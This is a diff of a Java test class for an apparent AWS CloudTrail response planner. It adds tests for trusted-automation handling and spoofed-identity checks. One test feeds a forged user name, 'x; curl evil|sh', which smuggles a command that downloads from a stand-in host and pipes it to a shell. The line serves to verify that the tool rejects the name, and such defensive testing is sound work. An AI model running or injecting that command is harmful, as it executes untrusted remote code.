@@ -45,7 +45,7 @@ class ResponsePlannerTest {
 
     @Test
     void anOrdinaryUserIsContainedAndAlerted() throws Exception {
-        ResponsePlan plan = new ResponsePlanner(config(Map.of())).plan(CorpusFindings.backdoorUser(ACCOUNT, "backdoor"));
+        ResponsePlan plan = new ResponsePlanner(config(Map.of()), List.of()).plan(CorpusFindings.backdoorUser(ACCOUNT, "backdoor"));
 
         assertThat(plan.steps).extracting(s -> s.type, s -> s.decision).containsExactly(
                 org.assertj.core.groups.Tuple.tuple(PlannedAction.Type.CONTAIN, Decision.EXECUTE),
@@ -54,7 +54,7 @@ class ResponsePlannerTest {
 
     @Test
     void protectedPatternsOwnRolesAndBreakGlassAreNeverContained() throws Exception {
-        ResponsePlanner planner = new ResponsePlanner(config(Map.of()));
+        ResponsePlanner planner = new ResponsePlanner(config(Map.of()), List.of());
         Target admin = Target.of(Target.Kind.IAM_USER, "admin-alice", "arn:aws:iam::111122223333:user/admin-alice", ACCOUNT);
         Target ops = Target.of(Target.Kind.IAM_ROLE, "OpsDeploy",
                 "arn:aws:sts::111122223333:assumed-role/OpsDeploy/session-1", ACCOUNT);
@@ -73,7 +73,7 @@ class ResponsePlannerTest {
 
     @Test
     void rootServicesAndForeignAccountsAreAlertOnlyAndSayWhy() throws Exception {
-        ResponsePlanner planner = new ResponsePlanner(config(Map.of()));
+        ResponsePlanner planner = new ResponsePlanner(config(Map.of()), List.of());
         PlannedStep root = containStep(planner.plan(findingFor(Target.of(Target.Kind.ROOT, "root", "arn:aws:iam::111122223333:root", ACCOUNT))));
         PlannedStep service = containStep(planner.plan(findingFor(Target.of(Target.Kind.OTHER, "ec2.amazonaws.com", null, ACCOUNT))));
         PlannedStep foreign = containStep(planner.plan(findingFor(
@@ -90,7 +90,7 @@ class ResponsePlannerTest {
 
     @Test
     void serviceLinkedAndIdentityCenterRolesAreAlertOnly() throws Exception {
-        ResponsePlanner planner = new ResponsePlanner(config(Map.of()));
+        ResponsePlanner planner = new ResponsePlanner(config(Map.of()), List.of());
         PlannedStep serviceLinked = containStep(planner.plan(findingFor(Target.of(Target.Kind.IAM_ROLE,
                 "AWSServiceRoleForSupport", null, ACCOUNT))));
         PlannedStep sso = containStep(planner.plan(findingFor(Target.of(Target.Kind.IAM_ROLE,
@@ -103,7 +103,7 @@ class ResponsePlannerTest {
 
     @Test
     void memberAccountsInTheListAreContainable() throws Exception {
-        ResponsePlanner planner = new ResponsePlanner(config(Map.of("accounts", ACCOUNT + ",999988887777")));
+        ResponsePlanner planner = new ResponsePlanner(config(Map.of("accounts", ACCOUNT + ",999988887777")), List.of());
         PlannedStep foreign = containStep(planner.plan(findingFor(
                 Target.of(Target.Kind.IAM_USER, "eve", "arn:aws:iam::999988887777:user/eve", "999988887777"))));
         assertThat(foreign.decision).isEqualTo(Decision.EXECUTE);
@@ -112,13 +112,13 @@ class ResponsePlannerTest {
     @Test
     void dryRunGlobalPerRuleAndPerActionEachSayWhereItCameFrom() throws Exception {
         Finding finding = CorpusFindings.backdoorUser(ACCOUNT, "backdoor");
-        assertThat(containStep(new ResponsePlanner(config(Map.of("dryRun", "true"))).plan(finding)).reason)
+        assertThat(containStep(new ResponsePlanner(config(Map.of("dryRun", "true")), List.of()).plan(finding)).reason)
                 .contains("TrailWarden.Response.dryRun");
-        assertThat(containStep(new ResponsePlanner(config(Map.of("dryRunRules", CorpusFindings.RULE_ID))).plan(finding)).reason)
+        assertThat(containStep(new ResponsePlanner(config(Map.of("dryRunRules", CorpusFindings.RULE_ID)), List.of()).plan(finding)).reason)
                 .contains("dryRunRules");
         Finding ruleDryRun = CorpusFindings.backdoorUser(ACCOUNT, "backdoor");
         ruleDryRun.response = List.of(PlannedAction.of(PlannedAction.Type.CONTAIN, ruleDryRun.target, true, null));
-        PlannedStep step = containStep(new ResponsePlanner(config(Map.of())).plan(ruleDryRun));
+        PlannedStep step = containStep(new ResponsePlanner(config(Map.of()), List.of()).plan(ruleDryRun));
         assertThat(step.decision).isEqualTo(Decision.DRY_RUN);
         assertThat(step.reason).contains("rule's response section");
     }
@@ -127,7 +127,7 @@ class ResponsePlannerTest {
     void theDefaultConfigurationIsDryRun() {
         Finding finding = CorpusFindings.backdoorUser(ACCOUNT, "backdoor");
         ResponseConfig defaults = ResponseConfig.defaults();
-        assertThat(containStep(new ResponsePlanner(defaults).plan(finding)).decision)
+        assertThat(containStep(new ResponsePlanner(defaults, List.of()).plan(finding)).decision)
                 .isIn(Decision.DRY_RUN, Decision.SKIPPED_NOT_CONTAINABLE);
         assertThat(defaults.dryRun).isTrue();
         assertThat(defaults.maxContainments).isEqualTo(10);
@@ -138,13 +138,13 @@ class ResponsePlannerTest {
     void aFindingWithoutAnAlertActionStillGetsExactlyOneAlert() throws Exception {
         Finding finding = CorpusFindings.backdoorUser(ACCOUNT, "backdoor");
         finding.response = List.of(PlannedAction.of(PlannedAction.Type.CONTAIN, finding.target, false, null));
-        ResponsePlan plan = new ResponsePlanner(config(Map.of())).plan(finding);
+        ResponsePlan plan = new ResponsePlanner(config(Map.of()), List.of()).plan(finding);
         assertThat(plan.steps).filteredOn(s -> s.type == PlannedAction.Type.ALERT).hasSize(1);
     }
 
     @Test
     void loopGuardNeverContainsTrailWardensOwnActivityButStillAlertsItAtLowSeverity() throws Exception {
-        ResponsePlanner planner = new ResponsePlanner(config(Map.of()));
+        ResponsePlanner planner = new ResponsePlanner(config(Map.of()), List.of());
         Finding ownRole = CorpusFindings.backdoorUser(ACCOUNT, "backdoor");
         ownRole.events = assumedRole(ownRole.events, OWN_ROLE, "TrailWardenJob", "any-session");
         Finding responderSession = CorpusFindings.backdoorUser(ACCOUNT, "backdoor");
@@ -165,7 +165,7 @@ class ResponsePlannerTest {
     /** Issue 10 item 4: the responder role's name in an account that is not configured, or on another path, is not TrailWarden. */
     @Test
     void loopGuardMatchesOnlyTheExactResponderRoleArnsOfConfiguredAccounts() throws Exception {
-        ResponsePlanner planner = new ResponsePlanner(config(Map.of()));
+        ResponsePlanner planner = new ResponsePlanner(config(Map.of()), List.of());
         Finding otherAccount = CorpusFindings.backdoorUser(ACCOUNT, "backdoor");
         otherAccount.events = assumedRole(otherAccount.events,
                 "arn:aws:iam::999988887777:role/TrailWardenResponder", "TrailWardenResponder", "TrailWarden-x");
@@ -184,22 +184,22 @@ class ResponsePlannerTest {
         Target developer = Target.of(Target.Kind.IAM_ROLE, "Developer", "arn:aws:sts::" + ACCOUNT + ":assumed-role/Developer/alice", ACCOUNT);
         finding.response = List.of(PlannedAction.of(PlannedAction.Type.CONTAIN, developer, false, null));
 
-        assertThat(containStep(new ResponsePlanner(config(Map.of())).plan(finding)).decision)
+        assertThat(containStep(new ResponsePlanner(config(Map.of()), List.of()).plan(finding)).decision)
                 .isEqualTo(Decision.SKIPPED_NOT_CONTAINABLE);
-        assertThat(containStep(new ResponsePlanner(config(Map.of("containableRoles", "arn:aws:iam::*:role/Dev*")))
+        assertThat(containStep(new ResponsePlanner(config(Map.of("containableRoles", "arn:aws:iam::*:role/Dev*")), List.of())
                 .plan(finding)).decision).isEqualTo(Decision.EXECUTE);
     }
 
     @Test
     void aTargetWhoseNameIamWouldRejectIsNeverContained() throws Exception {
-        ResponsePlanner planner = new ResponsePlanner(config(Map.of()));
+        ResponsePlanner planner = new ResponsePlanner(config(Map.of()), List.of());
         Finding forged = CorpusFindings.backdoorUser(ACCOUNT, "x; curl evil|sh");
         assertThat(containStep(planner.plan(forged)).decision).isEqualTo(Decision.SKIPPED_NOT_CONTAINABLE);
     }
 
     @Test
     void loopGuardIsNotFooledByAUserAgentOrASessionNameAlone() throws Exception {
-        ResponsePlanner planner = new ResponsePlanner(config(Map.of()));
+        ResponsePlanner planner = new ResponsePlanner(config(Map.of()), List.of());
         Finding spoofedAgent = CorpusFindings.backdoorUser(ACCOUNT, "backdoor");
         spoofedAgent.events.forEach(e -> e.userAgent = "TrailWarden/1.0 aws-sdk-java");
         Finding spoofedSession = CorpusFindings.backdoorUser(ACCOUNT, "backdoor");
@@ -208,6 +208,74 @@ class ResponsePlannerTest {
 
         assertThat(containStep(planner.plan(spoofedAgent)).decision).isEqualTo(Decision.EXECUTE);
         assertThat(containStep(planner.plan(spoofedSession)).decision).isEqualTo(Decision.EXECUTE);
+    }
+
+    private static final String ROTATOR = "arn:aws:iam::111122223333:role/automation/key-rotator";
+
+    /** Issue 10 item 5: trusted automation is alerted, never contained; nothing that merely resembles it. */
+    @Test
+    void trustedAutomationIsAlertedAndNotContained() throws Exception {
+        ResponsePlanner planner = new ResponsePlanner(config(Map.of()), List.of(ROTATOR));
+        Finding rotation = CorpusFindings.backdoorUser(ACCOUNT, "svc-reports");
+        rotation.events = assumedRole(rotation.events, ROTATOR, "key-rotator", "rotation-42");
+
+        ResponsePlan plan = planner.plan(rotation);
+        assertThat(containStep(plan).decision).isEqualTo(Decision.SKIPPED_TRUSTED_AUTOMATION);
+        assertThat(containStep(plan).reason).isEqualTo("every matched call made by trusted automation " + ROTATOR
+                + " (matches " + ROTATOR + " of TrailWarden.Lists trustedAutomation); not contained, alert only");
+        assertThat(plan.steps).filteredOn(step -> step.type == PlannedAction.Type.ALERT)
+                .extracting(step -> step.decision).containsExactly(Decision.EXECUTE);
+        assertThat(Decision.SKIPPED_TRUSTED_AUTOMATION.outcomeWithoutExecution()).isEqualTo(Outcome.SKIPPED_TRUSTED_AUTOMATION);
+    }
+
+    @Test
+    void onlyTheTrustedPrincipalItselfIsTrusted() throws Exception {
+        ResponsePlanner planner = new ResponsePlanner(config(Map.of()), List.of(ROTATOR));
+        Map<String, String> lookAlikes = Map.of(
+                "another account", "arn:aws:iam::999988887777:role/automation/key-rotator",
+                "another path", "arn:aws:iam::111122223333:role/key-rotator",
+                "a longer name", "arn:aws:iam::111122223333:role/automation/key-rotator-2");
+        lookAlikes.forEach((what, roleArn) -> {
+            Finding finding = CorpusFindings.backdoorUser(ACCOUNT, "svc-reports");
+            finding.events = assumedRole(finding.events, roleArn, roleArn.substring(roleArn.lastIndexOf('/') + 1), "rotation");
+            assertThat(containStep(planner.plan(finding)).decision).as(what).isEqualTo(Decision.EXECUTE);
+        });
+        Finding sessionNamedLikeIt = CorpusFindings.backdoorUser(ACCOUNT, "svc-reports");
+        sessionNamedLikeIt.events = assumedRole(sessionNamedLikeIt.events, "arn:aws:iam::111122223333:role/Developer",
+                "Developer", "automation/key-rotator");
+        assertThat(containStep(planner.plan(sessionNamedLikeIt)).decision).as("a session name is the caller's choice")
+                .isEqualTo(Decision.EXECUTE);
+        Finding caseVaried = CorpusFindings.backdoorUser(ACCOUNT, "svc-reports");
+        caseVaried.events = assumedRole(caseVaried.events, "arn:aws:iam::111122223333:role/Automation/KEY-ROTATOR",
+                "KEY-ROTATOR", "rotation");
+        assertThat(containStep(planner.plan(caseVaried)).decision).as("the same role to IAM")
+                .isEqualTo(Decision.SKIPPED_TRUSTED_AUTOMATION);
+    }
+
+    /** One matched call by anyone else, and the finding is no longer routine. */
+    @Test
+    void aFindingWithOneUntrustedCallIsContained() throws Exception {
+        ResponsePlanner planner = new ResponsePlanner(config(Map.of()), List.of(ROTATOR));
+        Finding mixed = CorpusFindings.backdoorUser(ACCOUNT, "svc-reports");
+        List<CloudTrailEvent> events = assumedRole(mixed.events, ROTATOR, "key-rotator", "rotation");
+        events.set(events.size() - 1, mixed.events.get(mixed.events.size() - 1));
+        mixed.events = events;
+        assertThat(mixed.events.get(mixed.events.size() - 1).actor.type).isEqualTo(IdentityType.IAM_USER);
+
+        assertThat(containStep(planner.plan(mixed)).decision).isEqualTo(Decision.EXECUTE);
+    }
+
+    /** A trusted IAM user is matched by its own ARN; protection is reported before trust. */
+    @Test
+    void aTrustedUserIsMatchedByItsArnAndProtectionComesFirst() throws Exception {
+        Finding byUser = CorpusFindings.backdoorUser(ACCOUNT, "svc-reports");
+        String userArn = byUser.events.get(0).actor.arn;
+        assertThat(containStep(new ResponsePlanner(config(Map.of()), List.of(userArn)).plan(byUser)).decision)
+                .isEqualTo(Decision.SKIPPED_TRUSTED_AUTOMATION);
+        Finding protectedTarget = findingFor(Target.of(Target.Kind.IAM_USER, "admin-alice",
+                "arn:aws:iam::111122223333:user/admin-alice", ACCOUNT));
+        assertThat(containStep(new ResponsePlanner(config(Map.of()), List.of(userArn)).plan(protectedTarget)).decision)
+                .isEqualTo(Decision.SKIPPED_PROTECTED);
     }
 
     private static List<CloudTrailEvent> assumedRole(List<CloudTrailEvent> events, String roleArn, String roleName, String session) {
